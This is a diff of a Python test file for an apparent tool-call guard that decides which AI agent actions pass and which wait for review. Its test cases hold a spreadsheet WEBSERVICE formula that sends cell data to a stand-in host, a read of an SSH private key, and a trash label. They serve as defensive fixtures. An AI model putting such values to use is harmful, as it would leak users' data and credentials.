@@ -478,7 +478,7 @@ def test_what_is_asked_for_beside_a_name_says_what_it_costs():
         ("write_cell", "value", "=SUM(A1:A9)", '=WEBSERVICE("https://x.example/"&A1)'),
         ("label_email", "label_id", "Label_12", "TRASH"),
         ("read_file", "path", "/home/ann/projects/a.txt", "/home/ann/private/projects/a.txt"),
-        ("read_file", "path", "/srv/media/a.png", "/home/ann/.ssh/id_rsa"),
+        ("read_file", "path", "/data/media/a.png", "/home/ann/.ssh/id_rsa"),
     ],
 )
 def test_what_an_argument_may_hide_waits(tool, argument, passes, waits):
@@ -832,7 +832,7 @@ def test_what_only_sounds_like_it_does_not(tool, arguments):
         ("move_window", "window_id space"),
         ("move_piece", "game_id space"),
         ("add_article_note", "title publish_date"),
-        ("create_article", "source publish_date"),
+        ("create_bookmark", "source publish_date"),
     ],
 )
 def test_where_a_thing_is_and_when_another_s_came_out_is_no_target(tool, arguments):
